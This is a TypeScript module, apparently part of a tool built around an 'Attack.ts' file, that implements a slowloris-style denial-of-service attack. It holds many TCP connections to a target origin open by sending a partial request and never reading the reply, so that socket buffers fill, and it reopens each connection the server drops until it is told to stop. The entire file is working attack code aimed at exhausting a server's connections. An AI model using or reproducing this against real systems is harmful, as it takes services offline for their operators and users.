/** Connections that send the start of a request, and neither send nor read anything after that. */
import { connect } from "node:net"
import { setTimeout } from "node:timers/promises"
import { pauseMillis, type Tally } from "./Attack.ts"

/** Options of `openStalled`. */
export interface OpenStalledOptions {
  readonly origin: string
  readonly connections: number
  readonly tally: Tally
  readonly signal: AbortSignal
  /** Returns the bytes of a connection by its number. One that replaces it has the same. */
  readonly bytesOf: (n: number) => string
}

/** Keeps the connections open until the signal aborts: each is replaced when the server refuses its request or closes it. */
export const openStalled = async (
  { bytesOf, connections, origin, signal, tally }: OpenStalledOptions
): Promise<void> => {
  const holder = async (n: number) => {
    while (!signal.aborted) {
      const outcome = await hold(origin, bytesOf(n), tally, signal)
      if (signal.aborted) return
      tally(outcome)
      await setTimeout(pauseMillis)
    }
  }
  await Promise.all(Array.from({ length: connections }, (_, n) => holder(n)))
}

// -----------------------------------------------------------------------------
// internal
// -----------------------------------------------------------------------------

/**
 * Opens a connection. Returns the status of an error, or `closed` if the server closed the connection before or after a
 * success, which is counted as soon as it arrives.
 */
const hold = (origin: string, bytes: string, tally: Tally, signal: AbortSignal): Promise<string> =>
  new Promise((resolve) => {
    const { hostname, port } = new URL(origin)
    const socket = connect(Number(port), hostname, () => socket.write(bytes))
    const end = (outcome: string) => {
      signal.removeEventListener("abort", abort)
      socket.destroy()
      resolve(outcome)
    }
    const abort = () => end("aborted")
    signal.addEventListener("abort", abort)
    socket.once("error", () => end("closed"))
    socket.once("close", () => end("closed"))
    socket.once("data", (chunk) => {
      const status = chunk.toString("latin1").slice(9, 12)
      if (!status.startsWith("2")) return end(status)
      tally(status)
      // Nothing is read from here on: the buffers of both systems fill.
      socket.pause()
    })
  })
